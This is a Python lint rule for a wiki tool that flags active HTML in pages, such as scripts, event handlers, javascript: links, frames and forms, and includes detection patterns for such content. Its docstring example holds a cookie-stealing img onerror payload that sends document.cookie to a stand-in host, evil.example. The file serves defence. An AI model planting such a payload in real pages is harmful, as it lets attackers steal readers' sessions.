"""SEC004 active-html

A page holds HTML that does something: a script, an event handler such as `onclick`, a `javascript:` address, a form,
an object, a frame, a `meta` or `base` element. What stands in code only shows it, and is all right.
A frame that shows a page of the web over https is common in people's own notes: there it is only told.

### Why it matters

Whoever publishes the wiki as a site hands its readers what somebody wrote into a page: it can read what they type, send
them elsewhere, or change the page.

### Example

```markdown
<img src="weir.png" onerror="fetch('https://evil.example/' + document.cookie)">
[figures](javascript:alert(1))
```

### How to mend it

Remove it. To show such text, put it into backticks.
"""

import re
from collections.abc import Iterator

from kb.diagnostics import Severity
from kb.lint.rule import Finding
from kb.wiki.elements import Element, elements
from kb.wiki.page import Page
from kb.wiki.shortening import shortened

CODE = "SEC004"
SEVERITY = Severity.ERROR

_RUNNING = frozenset({"script", "object", "embed", "applet", "base", "frameset", "portal"})
_FRAMES = frozenset({"iframe", "frame"})
_ASKING = frozenset({"form"})
_HANDLER = re.compile(r"on[a-z]{3,}")
_ADDRESSES = ("href", "src", "action", "formaction", "xlink:href", "data", "srcdoc", "poster", "background")
_UNSEEN = re.compile(r"[\x00-\x20\x7f-\xa0\u200b-\u200f\u2060\ufeff]")
_RUN = re.compile(r"(?:javascript|vbscript|livescript):|data:(?!image/(?!svg)|audio/|video/|font/)", re.I)


def check_page(page: Page) -> Iterator[Finding]:
    for element in elements(page):
        severity, reason = _reason(element, page)
        if reason:
            hint = "Remove it, or put it into backticks to show it."
            yield Finding(page.path, element.line, element.column, reason, hint, severity)
    for link in page.links if ":" in page.addresses else ():
        address = _UNSEEN.sub("", link.target)
        if _RUN.match(address):
            message = f"an address that runs: {shortened(address, 40)}"
            yield Finding(page.path, link.line, link.column, message, "Remove it.")


def _reason(element: Element, page: Page) -> tuple[Severity, str]:
    """How bad an element is, and why; no words for one that does nothing."""
    handler = next((name for name in element.attributes if _HANDLER.fullmatch(name)), "")
    if handler:
        return SEVERITY, f"<{element.name}> has the handler {handler}"
    runs = next((name for name in _ADDRESSES if _RUN.match(_UNSEEN.sub("", element.attributes.get(name, "")))), "")
    if runs or "srcdoc" in element.attributes:
        return SEVERITY, f"<{element.name}> has {runs or 'srcdoc'} with something that runs"
    if element.name in _RUNNING or (element.name == "meta" and "http-equiv" in element.attributes):
        return SEVERITY, f"a page of a wiki holds no <{element.name}>"
    if element.name in _FRAMES:
        shows = element.attributes.get("src", "").startswith("https://") and not page.generated
        return Severity.INFO if shows else Severity.WARNING, f"<{element.name}> shows what is not in the wiki"
    if element.name in _ASKING:
        return Severity.WARNING, f"<{element.name}> sends what a reader types"
    return SEVERITY, ""
